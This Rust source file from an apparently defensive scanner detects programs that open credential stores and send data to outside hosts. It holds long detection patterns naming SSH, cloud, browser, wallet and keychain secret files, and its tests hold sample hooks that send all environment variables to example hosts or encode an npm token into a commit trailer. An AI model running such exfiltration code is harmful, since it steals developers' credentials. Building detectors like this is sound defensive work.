//! Stores of secrets beside strangers.

use std::sync::LazyLock;

use super::{Report, found, outward, place, programs::Program, rules};
use crate::{
    Confidence::{Low, Medium},
    Package, Seen, Severity,
    formats::Profile,
    pattern::{Regex, code as pattern},
};

/// Whose secrets.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord)]
enum Store {
    Keys,
    Cloud,
    Registry,
    Repository,
    Browser,
    Wallet,
    Keychain,
    Agent,
    Machine,
    /// Variables of a process, all of them or those whose names tell.
    Environment,
    /// Sessions of programs for talk.
    Talk,
}

/// Stores, by the names of their files and of the programs that open them. Parts of a path may be apart, as in
/// `join(home, ".aws", "credentials")`.
static STORES: LazyLock<Vec<(Store, Regex)>> = LazyLock::new(|| {
    // What stands between two parts of a path in a program.
    const GAP: &str = r#"["'`]?[\s,/\\)\]+(.]{1,12}(?:["'`]|joinpath|join)?[\s(/\\"'`]{0,4}"#;
    let all = |store: Store, parts: &[&str]| {
        let joined = parts.join("|").replace("~~", GAP);
        (store, pattern(&format!("(?i)(?:{joined})")))
    };
    vec![
        all(
            Store::Keys,
            &[
                r"\bid_(?:rsa|ed25519|ecdsa|dsa)\b",
                r"\.ssh/?\*",
                r"\.ssh~~id_",
                r"\.gnupg\b",
                r"private-keys-v1",
                r"gpg2?\b[^\n]{0,40}--export-secret",
                r"BEGIN (?:OPENSSH|RSA|EC) PRIVATE",
                r"(?:tar|zip|cp|rsync|scp|copytree|cpsync)\b[^\n]{0,60}\.ssh\b",
            ],
        ),
        all(
            Store::Cloud,
            &[
                r"\.aws~~(?:credentials|config|sso)",
                r"\.aws\b[^\n]{0,12}\*",
                r"(?:tar|zip|cp|rsync|scp|copytree|cpsync)\b[^\n]{0,80}\.aws\b",
                r"\.azure\b",
                r"msal_token_cache|service_principal_entries|accesstokens\.json",
                r"\.config~~gcloud",
                r"com\.vercel\.cli|\.(?:netlify|fly|railway|supabase|wrangler|heroku|surge|expo|sentryclirc|snowsql|dbt|oci|aliyun|tccli|ibmcloud|linode-cli|hcloud|scw|pulumi|circleci|render|doppler|infisical)~~(?:\w{1,16}~~)?(?:auth|config|credentials?|cli|access-token|profiles|connections|state|token)\w{0,8}\b(?:\.\w{2,5})?",
                r"application_default_credentials|legacy_credentials",
                r"\.kube~~config|\.kube\b[^\n]{0,8}\*",
                r"serviceaccount/token",
                r"\bkubectl\b[^\n]{0,40}\bget\s+secrets?\b|config\s+view\s+[^\n]{0,20}--raw",
                r"169\.254\.169\.254|169\.254\.170\.2|metadata\.google\.internal|0xa9fea9fe|2852039166",
                r"\.databrickscfg|\.terraform\.d\b|\.vault-token|\.config~~doctl|\.boto\b|\.s3cfg",
                r"secretsmanager\s+get-secret|ssm\s+get-parameter[^\n]{0,60}--with-decryption",
                r"gcloud\s+auth\s+print-(?:access|identity)|az\s+account\s+get-access-token",
                r"rclone\.conf",
                r"kubectl\s+create\s+token|vault\s+(?:token\s+create|kv\s+get)|sts\s+get-session-token|\bdoctl\s+auth\b|\b(?:heroku\s+auth:token|fly(?:ctl)?\s+(?:auth\s+token|tokens\s+create))|npm\s+token\s+create",
                r"(?:cp|tar|zip|backup|rsync|scp)\b[^\n]{0,80}\.(?:ssh|gnupg)\b",
            ],
        ),
        all(
            Store::Registry,
            &[
                r"\.npmrc\b",
                r"_authtoken",
                r"--build-arg\s+\w*(?:TOKEN|KEY|PAT|SECRET|PASSWORD)",
                r"\.pypirc\b",
                r"\.cargo~~credentials|\.cargo\b[\s\S]{0,160}?credentials\.toml|cargo_home[\s\S]{0,160}?credentials\.toml",
                r"\.gem~~credentials",
                r"\.docker~~config\.json",
                r"\.yarnrc\.yml",
                r"\.m2~~settings\.xml|\.gradle~~gradle\.properties|\.nuget\b|\.composer~~auth\.json",
                r"huggingface~~token",
                r"\.netrc\b",
                r"\.pgpass\b|\.my\.cnf\b",
            ],
        ),
        all(
            Store::Repository,
            &[
                r"\.git-credentials\b",
                r"git[^\n]{0,16}credential[^\n]{0,16}fill",
                r"\bgh[^\n]{0,8}auth[^\n]{0,8}token\b|\bgh\s+auth\s+status\s+[^\n|;]{0,20}(?:-t\b|--show-token)|\bhttp\b[^\n]{0,8}extraheader",
                r"\.config~~gh\b|\bhosts\.yml\b",
                r"\.config~~(?:hub|glab-cli)\b",
            ],
        ),
        all(
            Store::Browser,
            &[
                r"\blogin data\b",
                r"network~~cookies\b",
                r"cookies\.sqlite|\blogins\.json|\bkey4\.db|cookies\.binarycookies",
                r"(?:chrome|edge|brave|chromium|browser|vivaldi|opera)[^\n]{0,60}\bcookies\b",
                r"\bbrowser_?cookie3?\b|\bcryptunprotectdata\b|protecteddata\]::unprotect",
                r"chrome safe storage",
                r"(?:network\.getall|storage\.get|network\.get)cookies",
            ],
        ),
        all(
            Store::Wallet,
            &[
                r"\bwallet\.dat\b|\.electrum\b|\bexodus\.wallet\b|\.bitcoin\b|\bmultibit\b",
                r"solana~~(?:id|\*|\w{1,20})\.json|\.(?:electrum|exodus|atomic|ethereum|bitmonero|ledger live)~~(?:wallets|keystore|exodus\.wallet)",
                r"\.ethereum~~keystore|\.foundry~~keystores|\.near-credentials|\.sui~~sui_config|\.aptos~~config",
                r"nkbihfbeogaeaoehlefnkodbefgpgknn|bfnaelmomeimhlpmgjnjophhpkkoljpa|hnfanknocfeofbddgcijnmhnfnkdnaad|ibnejdfjmmkpcnlpebklmnkoeoihofec",
                r"ledger live|trezor suite|monero~~wallets",
            ],
        ),
        all(
            Store::Keychain,
            &[
                r"find-(?:generic|internet)-password|dump-keychain|login\.keychain",
                r"secret-tool\s+(?:lookup|search)|\bkeyrings\b[^\n]{0,30}\*|\.local~~share~~keyrings",
                r"cmdkey\s+/list|vaultcmd|passwordvault|credread|microsoft~~(?:credentials|protect|vault)",
                r"\.password-store\b|\.kdbx\b|\.config~~bitwarden|\bop\s+item\s+(?:list|get)[^\n]{0,40}--reveal",
                r"\blsass\b|sekurlsa|reg\s+save\s+hklm",
            ],
        ),
        all(
            Store::Agent,
            &[
                r"\.claude~~\.credentials|\.claude\.json\b|\.credentials\.json\b",
                r"\.codex~~auth\.json|\.gemini~~oauth_creds|oauth_creds\.json",
                r"\.openclaw~~(?:openclaw\.json|credentials|\.env|identity)|\.clawdbot~~",
                r"auth-profiles\.json|claude_desktop_config|github-copilot~~(?:apps|hosts)\.json",
                r"\.cursor~~mcp\.json|\.continue~~config|opencode~~auth\.json",
            ],
        ),
        all(
            Store::Keys,
            &[
                r"include=\S{0,3}\*\.(?:kdbx|p12|pfx|pem|key|jks|keystore|ovpn|ppk|asc|gpg)",
                r"keystore\.properties|storeFile\b|\.jks\b|\.keystore\b|\.mobileprovision|AuthKey_\S{0,12}\.p8|play-store-credentials|signing\.properties|MATCH_PASSWORD|FASTLANE_SESSION",
                r"\b(?:pgpass|git-credentials|npmrc|pypirc)\b",
                r"sts\s+(?:get-session-token|assume-role|get-federation-token)",
            ],
        ),
        all(
            Store::Machine,
            &[r"/etc/shadow\b", r"/proc/[^\s/]{1,20}/environ\b", r"\$\{?\w{1,12}\}?/environ\b"],
        ),
        all(
            Store::Environment,
            &[
                r"\.Renviron\b",
                r#"getenv\(\s*(?:c|list|\[)\(?\s*["']\w{0,30}(?:token|key|pat|secret|password)\w{0,8}["']\s*,\s*["']\w{0,30}(?:token|key|pat|secret|password)\w{0,8}["']"#,
                r"\bprintenv\b|(?:^|[\s;&|({`])env\s*[|>;)]|\bexport\s+-p\b|(?:^|[;{&]\s*)set\s*[|;]|\bdeclare\s+-x\b",
                r"os\.environ\.items\(\)|dict\(\s*os\.environ\s*\)|\(\s*os\.environ\s*\)|\bos\.environ\s*[,})\]]",
                r"JSON\.stringify\(\s*process\.env\s*[,)]|Object\.(?:entries|keys|values|fromEntries)\(\s*process\.env|\{\s*\.\.\.process\.env\s*\}|[:=]\s*process\.env\s*[,})]",
                r"for\s*\(?\w{1,20}(?:\s*,\s*\w{1,20})?\s*(?:in|of|:=\s*range)\s*\(?(?:os\.environ\b|process\.env\b|ENV\b|\$ENV\b)",
                r"System\.getenv\(\)|env::vars(?:_os)?\(\)|\bENV\.(?:to_h|to_a|map|each|select|inspect)|os\.Environ\(\)|Get(?:-ChildItem|-Item)?\s+env:|gci\s+env:|dir\s+env:|\[Environment\]::GetEnvironmentVariables|\$_ENV\b|%ENV\b|getenv\(\)|ProcessInfo\.processInfo\.environment",
            ],
        ),
        all(
            Store::Talk,
            &[
                r"(?:slack|discord|teams|element|whatsapp)[^\n]{0,60}(?:leveldb|local storage|cookies|indexeddb)",
                r"\btdata\b|signal~~(?:config\.json|sql)\b|xox\[|mtalk|weechat~~sec\.conf",
                r"\b(?:wx|uni|my|tt|swan)\.getStorageInfo(?:Sync)?\b|AsyncStorage\.(?:getAllKeys|multiGet)\b|Object\.(?:entries|keys|fromEntries)\(\s*(?:window\.)?(?:localStorage|sessionStorage)\b|chrome\.storage\.\w{4,8}\.get\(\s*null|dictionaryRepresentation\(\)|getSharedPreferences\([^\n]{0,80}\.(?:getAll\(|all\b)",
                r"document\.cookie\b|\.\.\.localStorage|JSON\.stringify\(\s*(?:window\.)?localStorage",
                r"pykeepass|keepassxc-cli|\bkeepass\b[^\n]{0,40}password",
            ],
        ),
    ]
});

/// The places where a pattern of stores means one.
fn places<'a>(
    store: Store,
    pattern: &'a Regex,
    text: &'a str,
) -> impl Iterator<Item = std::ops::Range<usize>> + 'a {
    pattern.find_iter(text).take(32).map(|found| found.range()).filter(move |found| {
        let rest = text.get(found.end..).unwrap_or_default();
        // What a child process inherits is not read.
        let inherits = store == Store::Environment && {
            let mut from = found.start.saturating_sub(24);
            while !text.is_char_boundary(from) {
                from -= 1;
            }
            let before = text.get(from..found.start).unwrap_or_default();
            let here = text.get(found.clone()).unwrap_or_default();
            ["env=", "env =", "env:", "Env =", "Env=", "append(", "environment"]
                .iter()
                .any(|word| before.contains(word))
                || here.starts_with(['=', ':']) && before.trim_end().ends_with("env")
        };
        if inherits {
            return false;
        }
        let start = rest.trim_start_matches(['*', '?', '"', '\'', '`', ' ']);
        // The public half is no secret, and what is written there is none of theirs.
        !start.starts_with(".pub") && !rest.starts_with(".example") && !rest.starts_with(".sample")
    })
}

/// The stores that a program names, each with the first byte where it does.
fn stores(program: &Program<'_>) -> Vec<(Store, usize)> {
    let mut found: Vec<(Store, usize)> = STORES
        .iter()
        .filter_map(|(store, pattern)| {
            let first = places(*store, pattern, &program.text).next()?;
            Some((*store, first.start))
        })
        .collect();
    found.sort_by_key(|(_, at)| *at);
    found
}

/// Every place where a program names a store: whether that is all its variables, whether a program gives out what is
/// kept (and no path is read), and where.
pub(super) fn every(program: &Program<'_>) -> Vec<(bool, bool, usize)> {
    STORES
        .iter()
        .flat_map(|(store, pattern)| {
            places(*store, pattern, &program.text).map(move |place| {
                let here = program.text.get(place.clone()).unwrap_or_default();
                (*store == Store::Environment, GIVES_OUT.is_match(here), place.start)
            })
        })
        .collect()
}

/// A program that gives out what a store holds.
static GIVES_OUT: LazyLock<Regex> = LazyLock::new(|| {
    pattern(
        r"(?i)auth[^\n]{0,8}token|credential[^\n]{0,16}fill|find-(?:generic|internet)-password|dump-keychain|secret-tool|get-secret|print-(?:access|identity)|get-access-token|export-secret|kubectl\b[^\n]{0,40}(?:secrets?|token)|--raw|vault\s|sts\s|token\s+create|browser_?cookie3|169\.254|metadata\.google",
    )
});

/// Does it open any?
pub(super) fn opens(program: &Program<'_>) -> bool {
    !stores(program).is_empty()
}

/// Where it opens a wallet.
pub(super) fn opens_wallet(program: &Program<'_>) -> Option<usize> {
    stores(program).iter().find(|(store, _)| *store == Store::Wallet).map(|(_, at)| *at)
}

/// A secret is made to look like something else.
static ENCODES: LazyLock<Regex> = LazyLock::new(|| {
    pattern(r"(?i)\|\s*(?:gzip[^|\n]{0,20}\|\s*)?(?:base64|xxd|openssl\s+enc|hexdump|od)\b")
});
/// All variables of the process go through an encoder.
static ENVIRONMENT_ENCODED: LazyLock<Regex> = LazyLock::new(|| {
    pattern(
        r"(?i)(?:\bprintenv|(?:^|[\s;&|({`])env|\bexport\s+-p|\bdeclare\s+-x)\s*\|[^\n;]{0,160}\b(?:base64|base32|xxd|hexdump|openssl\s+enc|uuencode)\b|\{\s*env\s*\|[^\n}]{0,160}\}\s*\|[^\n]{0,60}\b(?:base64|base32|xxd)\b",
    )
});
/// The file of a project's secrets takes another form.
static FILE_ENCODED: LazyLock<Regex> = LazyLock::new(|| {
    pattern(
        r"(?i)\b(?:base64|base32|xxd|gzip|openssl\s+enc|od|hexdump)\b[^\n|;]{0,24}(?:<|\s)\s*\S{0,30}\.env\b|\.env\b[^\n;]{0,80}\|\s*[^\n;]{0,60}\b(?:base64|base32|xxd|openssl\s+enc|hexdump)\b",
    )
});
/// A token is read, as a registry or a service keeps it.
static TOKEN_READ: LazyLock<Regex> = LazyLock::new(|| {
    pattern(
        r"(?i)_authToken\b|\bgh auth token\b|\bnpm config get [^\n]{0,40}authToken|\bgit credential fill\b|\bglab auth status\b[^\n]{0,20}-t",
    )
});
/// A line at the end of what is committed.
static TRAILER: LazyLock<Regex> = LazyLock::new(|| {
    pattern(
        r"(?i)\btrailers?\b|\b(?:build|change|trace|session|correlation|release)-id\s?:|interpret-trailers",
    )
});
/// What others see of a project.
static COMMITTED: LazyLock<Regex> = LazyLock::new(|| {
    pattern(
        r"(?i)\bgit\s+(?:commit|tag|notes|branch|switch|checkout|push|config)\b|--trailer\b|-Context:|User-Agent|\balt=|\bgh\s+(?:pr|issue|release)\b",
    )
});
/// Bytes are mixed with a key or take another form, and are written.
static OBSCURES: LazyLock<Regex> = LazyLock::new(|| {
    pattern(
        r"(?i)\bxor\b|-bxor|\bbxor\b|\^\s*(?:0x[0-9a-f]{2}|key|k\[|k\b)|:byte\([^)\n]{0,20}\)\s*~|b64encode|b85encode|base64\.(?:b64|Std|URL)|\btoString\(\s*['\x22](?:base64|hex)|hexlify|Base64\.(?:strict_)?encode|\|\s*(?:base64|xxd)",
    )
});
static KEPT: LazyLock<Regex> = LazyLock::new(|| {
    pattern(
        r"(?i)secret\s+set|create\s+secret|--decode|base64\s+-[dD]\b|pbcopy|xclip|\bclip\b|>\s*\S+\.b64|set-secret",
    )
});

/// A file below the home whose name says that it keeps a login, and the folder of whose program it is.
static TOKEN_FILE: LazyLock<Regex> = LazyLock::new(|| {
    pattern(
        r#"(?i)(?:~|\$\{?HOME\b|HOME["'\])]{1,3}|homedir\(\)|expanduser|Path\.home\(\)|HomeDir\w{0,4}\(\)|home_dir\(\)|user\.home|Dir\.home|USERPROFILE|APPDATA|XDG_\w{4,6}_HOME|\bhome\b)[^\n]{0,80}?["'/\\.]([A-Za-z][\w-]{2,40})["'/\\,\s]{1,6}(?:auth|credentials?|access[-_]?tokens?|tokens?|refresh[-_]?token|session|api[-_]?keys?|login|accounts?)\.(?:json|ya?ml|toml|db|ini|txt|conf)\b"#,
    )
});

/// The login of a program that nothing here is about leaves with a stranger.
fn token_of_another(report: &mut Report<'_>) {
    let text = report.program.text.as_str();
    if report.program.prose {
        return;
    }
    let Some((at, folder)) = super::assembled::names(&TOKEN_FILE, text).into_iter().next() else {
        return;
    };
    let Some(stranger) = outward::stranger(report.program, report.profile) else { return };
    let folder = folder.to_ascii_lowercase();
    // Its own login, or that of the service that it talks to.
    let own = matches!(folder.as_str(), "config" | "share" | "local" | "cache" | "app" | "data")
        || report.profile.purpose.contains(&folder)
        || stranger.host.contains(&folder);
    if own || !stranger.sends {
        return;
    }
    let message = format!(
        "the login of `{}` is read, and something is sent to {}",
        palisade_core::shown(&folder, 40),
        stranger.shown()
    );
    report.say(&rules::SECRET_AND_STRANGER, Severity::High, Medium, at, message);
}

/// Is the entry of the keychain that is opened here called like the host: the key of its own service?
fn asks_for_own(text: &str, at: usize, host: &str) -> bool {
    const SHORTEST: usize = 5;
    let Some(owner) = host.rsplit('.').nth(1).filter(|owner| owner.len() >= SHORTEST) else {
        return false;
    };
    let owner = owner.to_ascii_lowercase();
    let asked: String = text
        .get(at..)
        .unwrap_or_default()
        .chars()
        .take(200)
        .collect::<String>()
        .to_ascii_lowercase();
    // Or by a constant.
    let named = |line: &str| {
        let line = line.to_ascii_lowercase();
        line.contains("service") && line.contains(['=', ':']) && line.contains(&owner)
    };
    asked.contains(&owner) || asked.contains("service_name") && text.lines().any(named)
}

/// One program opens a store and talks to a stranger.
pub(super) fn look(report: &mut Report<'_>) {
    if let Some(all) = ENVIRONMENT_ENCODED.find(&report.program.text) {
        let message = "all variables, keys among them, are made to look like something else";
        report.say(&rules::SECRETS_ENCODED, Severity::High, Medium, all.start(), message);
    }
    if let Some(file) = FILE_ENCODED.find(&report.program.text)
        && COMMITTED.is_match(&report.program.text)
        && !KEPT.is_match(&report.program.text)
    {
        let message = "a file of secrets goes, in another form, into what others see";
        report.say(&rules::SECRETS_ENCODED, Severity::High, Medium, file.start(), message);
    }
    if let Some(token) = TOKEN_READ.find(&report.program.text)
        && (ENCODES.is_match(&report.program.text) || OBSCURES.is_match(&report.program.text))
        && TRAILER.is_match(&report.program.text)
        && !KEPT.is_match(&report.program.text)
    {
        let message = "a token goes, in another form, into the trailer of what is committed";
        report.say(&rules::SECRETS_ENCODED, Severity::High, Medium, token.start(), message);
    }
    let stores = stores(report.program);
    let Some((_, at)) = stores.first().copied() else {
        token_of_another(report);
        return;
    };
    let mut kinds: Vec<Store> = stores.iter().map(|(store, _)| *store).collect();
    kinds.sort_unstable();
    kinds.dedup();
    if let Some(stranger) = outward::stranger(report.program, report.profile) {
        // Registries' settings are named by whoever installs from one.
        let weak = (kinds == [Store::Registry] || kinds == [Store::Environment])
            && !stranger.sends
            && !stranger.anyones
            || kinds == [Store::Keychain] && asks_for_own(&report.program.text, at, &stranger.host);
        let severity = if weak { Severity::Medium } else { Severity::High };
        let message = format!("a store of secrets is opened, and it talks to {}", stranger.shown());
        report.say(&rules::SECRET_AND_STRANGER, severity, Medium, at, message);
    }
    // Neither a name for examples nor a gate (a variable, a mode of building) makes it harmless: nothing that runs
    // by itself has to send all variables or a file of keys anywhere.
    if outward::stranger(report.program, report.profile).is_none()
        && !report.program.prose
        && (kinds.len() >= 2 || runs_by_itself(report.program.path))
        && outward::sends(report.program)
        && outward::names_anybody(report.program).is_some()
    {
        let message = match runs_by_itself(report.program.path) {
            true => "it runs by itself, opens a store of secrets and sends something",
            false => "several stores of secrets are opened, and something is sent",
        };
        report.say(&rules::SECRET_AND_STRANGER, Severity::High, Medium, at, message);
    }
    let strong = kinds
        .iter()
        .any(|kind| !matches!(kind, Store::Environment | Store::Registry | Store::Machine));
    if strong
        && report.program.prose
        && ENCODES.is_match(&report.program.text)
        && !KEPT.is_match(&report.program.text)
    {
        let message = "secrets are made to look like something else";
        report.say(&rules::SECRETS_ENCODED, Severity::High, Medium, at, message);
    }
    if kinds.len() >= 3 && !report.program.prose && OBSCURES.is_match(&report.program.text) {
        let message =
            "secrets of several programs are gathered and made to look like something else";
        report.say(&rules::SECRETS_ENCODED, Severity::High, Medium, at, message);
    }
    if kinds.len() >= 3 && outward::talks(report.program) {
        report.say(
            &rules::SECRETS_GATHERED,
            Severity::Medium,
            Medium,
            at,
            "stores of secrets of several programs are opened, and it talks to the network",
        );
    }
}

/// Does a tool run this file without being told to?
fn runs_by_itself(path: &str) -> bool {
    let name = crate::formats::base(path).to_ascii_lowercase();
    [
        "conftest.py",
        "sitecustomize.py",
        "usercustomize.py",
        "setup.py",
        "noxfile.py",
        "build.rs",
        "build.zig",
        "extconf.rb",
        "rakefile",
        "gemfile",
        "makefile",
        "makefile.pl",
        "build.pl",
        "setup.hs",
        "mix.exs",
        "package.swift",
        "cmakelists.txt",
        "pkgbuild",
        ".envrc",
        ".rprofile",
        "rprofile",
        "startup.jl",
        "postinstall.js",
        "preinstall.js",
        "gulpfile.js",
        "gruntfile.js",
        "dangerfile",
        "podfile",
        "build.gradle",
        "build.gradle.kts",
        "settings.gradle",
        "settings.gradle.kts",
        "init.gradle",
        "directory.build.targets",
        "directory.build.props",
    ]
    .contains(&name.as_str())
        || [
            ".pth",
            ".gemspec",
            ".csproj",
            ".targets",
            ".config.js",
            ".config.ts",
            ".config.mjs",
            ".config.cjs",
        ]
        .iter()
        .any(|end| name.ends_with(end))
        || path.contains("/hooks/")
        || path.contains(".git/")
}

/// A host that a setting names without quotation marks or a scheme: `host = forms.example.org`.
static SET_HOST: LazyLock<Regex> = LazyLock::new(|| {
    pattern(
        r#"(?im)(?:^|[{,])\s{0,8}["']?[\w.-]{1,30}["']?\s{0,4}[:=,]\s{0,4}["']?(?:https?://)?((?:[a-z0-9-]{1,63}\.){1,4}[a-z]{2,12})(?:[/:][^\s"']{0,80})?["']?\s{0,4}(?:$|[,}])"#,
    )
});
/// A list of what is left alone.
static LEFT_ALONE: LazyLock<Regex> = LazyLock::new(|| {
    pattern(r"(?i)exclu|ignor|deny|block|skip|never|redact|forbid|sensitive|protect|scan|detect")
});

/// A list of files names stores, and the program that reads the list sends what it names.
fn listed(package: &Package, programs: &[&Program<'_>], profile: &Profile, seen: &mut Seen) {
    let lists: Vec<Program<'_>> =
        super::programs::settings(package).into_iter().map(|(_, list)| list).take(MOST).collect();
    let reads = |program: &Program<'_>, list: &Program<'_>| {
        program.text.contains(crate::formats::base(list.path))
    };
    for list in &lists {
        let Some((_, at)) = stores(list).first().copied() else { continue };
        if LEFT_ALONE.is_match(&list.text) || LEFT_ALONE.is_match(list.path) {
            continue;
        }
        let Some(program) = programs.iter().find(|program| {
            reads(program, list) && outward::talks(program) && outward::sends(program)
        }) else {
            continue;
        };
        let host =
            outward::names_stranger(program, profile).map(|stranger| stranger.host).or_else(|| {
                lists.iter().filter(|other| reads(program, other)).find_map(|other| {
                    super::assembled::names(&SET_HOST, &other.text)
                        .into_iter()
                        .map(|(_, host)| host.to_ascii_lowercase())
                        .find(|host| {
                            outward::has_known_end(host)
                                && !outward::is_file(host)
                                && outward::is_strange(host, profile)
                        })
                })
            });
        let Some(host) = host else { continue };
        let message = format!(
            "a list of files names a store of secrets, and the program that reads it sends to {}",
            palisade_core::shown(&host, 60)
        );
        let rule = &rules::SECRET_AND_STRANGER;
        seen.findings.push(
            found(list, profile, rule, Severity::High, Medium, at, message).with(place(program, 0)),
        );
        return;
    }
}

/// Most programs of a package that are held against each other.
const MOST: usize = 32;

/// One program of a package opens the store, another talks to the stranger.
pub(super) fn together(
    package: &Package,
    programs: &[Program<'_>],
    profile: &Profile,
    seen: &mut Seen,
) {
    let programs: Vec<&Program<'_>> = programs.iter().filter(|program| !program.prose).collect();
    if programs.len() > MOST {
        return;
    }
    listed(package, &programs, profile, seen);
    let openers: Vec<(usize, usize)> = programs
        .iter()
        .enumerate()
        .filter_map(|(index, program)| Some((index, stores(program).first()?.1)))
        .collect();
    if openers.is_empty() {
        return;
    }
    let senders: Vec<(usize, outward::Stranger)> = programs
        .iter()
        .enumerate()
        .filter_map(|(index, program)| {
            let stranger = outward::stranger(program, profile).filter(|stranger| stranger.sends)?;
            Some((index, stranger))
        })
        .collect();
    for (opener, at) in &openers {
        for (sender, stranger) in &senders {
            let (Some(from), Some(to)) = (programs.get(*opener), programs.get(*sender)) else {
                continue;
            };
            if opener == sender
                || seen.findings.iter().any(|finding| {
                    finding.rule.id == rules::SECRET_AND_STRANGER.id
                        && finding.place.file == from.path
                })
            {
                continue;
            }
            let joined = joined(from, to, &programs);
            let (severity, sure) =
                if joined { (Severity::High, Medium) } else { (Severity::Medium, Low) };
            let message = format!(
                "a store of secrets is opened here, and another part of the package talks to {}",
                stranger.shown()
            );
            let finding =
                found(from, profile, &rules::SECRET_AND_STRANGER, severity, sure, *at, message)
                    .with(place(to, stranger.at));
            seen.findings.push(finding);
        }
    }
}

/// Do two programs have to do with each other: one names the other, a third names both, or both name one file?
fn joined(one: &Program<'_>, other: &Program<'_>, all: &[&Program<'_>]) -> bool {
    let names = |program: &Program<'_>, path: &str| {
        let name = crate::formats::base(path);
        let stem = name.split('.').next().unwrap_or(name);
        stem.len() > 2 && program.text.contains(stem)
    };
    if names(one, other.path) || names(other, one.path) {
        return true;
    }
    if all.iter().any(|third| {
        third.path != one.path
            && third.path != other.path
            && names(third, one.path)
            && names(third, other.path)
    }) {
        return true;
    }
    files(&one.text).iter().any(|file| files(&other.text).contains(file))
}

/// Files and folders that a program writes or reads beside itself.
fn files(text: &str) -> Vec<&str> {
    static FILE: LazyLock<Regex> = LazyLock::new(|| {
        pattern(r"(?:/tmp/|/var/tmp/|\./|~/|\.)[A-Za-z0-9_-]{3,40}(?:[./][A-Za-z0-9_-]{1,40}){0,3}")
    });
    let mut found: Vec<&str> = FILE
        .find_iter(text)
        .take(256)
        .filter_map(|found| {
            let path = text.get(found.range())?;
            let folder = path.trim_start_matches("./");
            let first = folder.trim_start_matches('/').split('/').next()?;
            match folder.starts_with("/tmp/") || folder.starts_with("/var/tmp/") {
                true => Some(folder),
                false => (first.starts_with('.') && path.contains('/')).then_some(first),
            }
        })
        .collect();
    found.sort_unstable();
    found.dedup();
    found.retain(|file| {
        !matches!(
            *file,
            ".ssh" | ".aws" | ".config" | ".cache" | ".local" | ".git" | ".github" | ".env"
        )
    });
    found
}

#[cfg(test)]
mod tests {
    use super::super::tests::stopped;
    use crate::FileKind::Shell;

    #[test]
    fn tokens_in_trailers_are_seen() {
        for text in [
            "t=$(sed -n 's/.*_authToken=//p' ~/.npmrc)\nprintf 'Trace-Id: %s\\n' \"$(printf %s \"$t\" | base64)\"\n",
            "{ env | grep -iE '(token|secret)'; date; } | gzip -9 | base64\n",
        ] {
            assert!(
                stopped("t.sh", Shell, text).contains(&"exfiltration-secret-disguised"),
                "{text}"
            );
        }
        for text in [
            "t=$(git rev-parse HEAD)\nprintf 'Trace-Id: %s\\n' \"$(printf %s \"$t\" | base64)\"\n",
            "env | grep -c PATH\n",
        ] {
            assert_eq!(stopped("t.sh", Shell, text), Vec::<&str>::new(), "{text}");
        }
    }

    /// Gated or not, to a name for examples or to a number, by whichever way.
    #[test]
    fn what_runs_by_itself_sends_no_secrets() {
        use crate::FileKind::{Data, JavaScript, Python, Ruby};
        let mut missed = Vec::new();
        for (path, kind, text) in [
            (
                "assets/conftest.py",
                Python,
                "import os\ndef pytest_configure(config):\n    if os.environ.get('CI'):\n        import http.client, json\n        all = {k: v for k, v in os.environ.items()}\n        c = http.client.HTTPSConnection('results.example.org')\n        c.request('PUT', '/', json.dumps(all))\n",
            ),
            (
                "assets/build.rs",
                Data,
                "fn main() {\n    if env::var(\"PROFILE\").as_deref() != Ok(\"release\") { return; }\n    let s = UdpSocket::bind(\"0.0.0.0:0\").unwrap();\n    for (k, v) in env::vars() { s.send_to(v.as_bytes(), \"203.0.113.47:5514\"); }\n}\n",
            ),
            (
                "extconf.rb",
                Ruby,
                "require 'socket'\nENV.each { |k, v| UDPSocket.new.send(v, 0, 'stats.example.net', 53) } if ENV['CI']\n",
            ),
            (
                "vite.config.js",
                JavaScript,
                "if (process.env.CI) fetch('https://m.example.com/b', { method: 'POST', body: JSON.stringify(process.env) });\nexport default {};\n",
            ),
            (
                "build.gradle.kts",
                Data,
                "if (System.getenv(\"CI\") != null) java.net.DatagramSocket().send(java.net.DatagramPacket(System.getenv().toString().toByteArray(), 9, java.net.InetAddress.getByName(\"b.example.org\"), 9))\n",
            ),
        ] {
            if stopped(path, kind, text).is_empty() {
                missed.push(path);
            }
        }
        assert!(missed.is_empty(), "{missed:?}");
        for (path, kind, text) in [
            ("build.rs", Data, "fn main() { println!(\"{}\", env::var(\"OUT_DIR\").unwrap()); }\n"),
            (
                "vite.config.js",
                JavaScript,
                "export default { server: { proxy: 'http://localhost:3000' }, define: { E: JSON.stringify(process.env.MODE) } };\n",
            ),
        ] {
            assert!(stopped(path, kind, text).is_empty(), "{path}");
        }
    }
}
